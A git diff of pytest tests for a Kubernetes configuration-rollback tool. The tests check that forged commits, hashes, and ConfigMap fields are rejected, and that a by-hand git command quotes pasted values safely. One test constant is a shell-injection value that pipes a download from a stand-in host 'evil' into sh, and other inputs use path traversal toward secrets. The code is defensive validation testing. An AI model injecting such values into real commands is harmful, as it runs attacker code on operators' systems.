@@ -1,7 +1,10 @@
 """A rollback takes the configuration back, from what the record kept, else from GitHub, and goes on where neither has it."""
 
+import json
+import shlex
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
+from typing import Any
 
 import pytest
 
@@ -10,7 +13,7 @@ from runbooks.clients.github.client import GithubClient
 from runbooks.clients.kubernetes.cluster import ClusterClient
 from runbooks.fleet.configurations import LARGEST, configuration_from, configurations_data, sha256_of
 from runbooks.fleet.fleet import Fleet, Release, ReleasedService, utc_now
-from runbooks.fleet.records import ReleasedConfiguration
+from runbooks.fleet.records import ReleasedConfiguration, releases_from
 from runbooks.kit.plan import Image, ImageChange
 from runbooks.kit.steps import PlainPulse, Results, StepContext, applied
 from runbooks.kit.train import Part, Train
@@ -150,3 +153,59 @@ def test_a_release_without_a_configuration_is_written_as_the_version_before_wrot
     assert "configuration" not in release.model_dump()
     known = release.model_copy(update={"configuration": ReleasedConfiguration(commit="a" * 40, sha256="b" * 64)})
     assert Release.model_validate_json(known.model_dump_json()) == known
+
+
+_PASTED = "x; curl evil|sh #"
+
+
+@pytest.mark.parametrize(
+    "changed", [{"commit": _PASTED}, {"commit": "a" * 39}, {"commit": "a" * 40 + "\n"}, {"sha256": "B" * 64}]
+)
+def test_a_configuration_that_is_not_a_commit_and_a_hash_is_unknown_and_hides_no_release(
+    changed: dict[str, str],
+) -> None:
+    known = ReleasedConfiguration(commit="a" * 40, sha256="b" * 64)
+    release = Release(version="v1.2.0", services=(), run="one", by="Maya", at=utc_now(), configuration=known)
+    entry = {**json.loads(release.model_dump_json()), "configuration": {**known.model_dump(), **changed}}
+    found = releases_from({"releases": json.dumps([entry])})
+    assert found.releases == (release.model_copy(update={"configuration": None}),)
+    (warning,) = found.warnings
+    assert "release record of v1.2.0, `configuration` is not a commit with a SHA-256, so it is unknown" in warning
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        {"source": _PASTED},
+        {"source": "devops/kubernetes/other.yaml"},
+        {"name": "../../secrets/backend"},
+        {"name": "backend-config\n"},
+        {"labels": {"app": "a b"}},
+        {"labels": {"/app": "a"}},
+        {"data": {"../x": "1"}},
+    ],
+)
+async def test_a_kept_config_map_that_the_files_can_not_have_is_not_used(
+    here: Place, github: Github, forged: dict[str, Any]
+) -> None:
+    wanted = OLD.model_copy(update=forged)
+    await _recorded(here, keep(commit_of("v1.2.0"), (wanted,)))
+    part = await _back(here, github)
+    (step,) = part.before
+    assert isinstance(step, ApplyConfigMap)
+    assert step.wanted.data == {"LOG_LEVEL": "info", "FHIR": "R4"}, "as GitHub has it"
+    (warning,) = part.warnings
+    assert "kept for v1.2.0" in warning
+
+
+async def test_a_config_map_that_is_kept_twice_is_not_used(here: Place, github: Github) -> None:
+    await _recorded(here, keep(commit_of("v1.2.0"), (OLD, OLD)))
+    part = await _back(here, github)
+    assert len(part.before) == len(part.warnings) == 1
+
+
+def test_what_a_person_pastes_contains_no_command_of_somebody_else() -> None:
+    forged = OLD.model_copy(update={"source": _PASTED})
+    step = ApplyConfigMap(namespace="prod", wanted=forged, differences=(), commit=_PASTED)
+    (line,) = step.by_hand()
+    assert shlex.split(line)[:4] == ["git", "show", f"{_PASTED}:{_PASTED}", "|"]
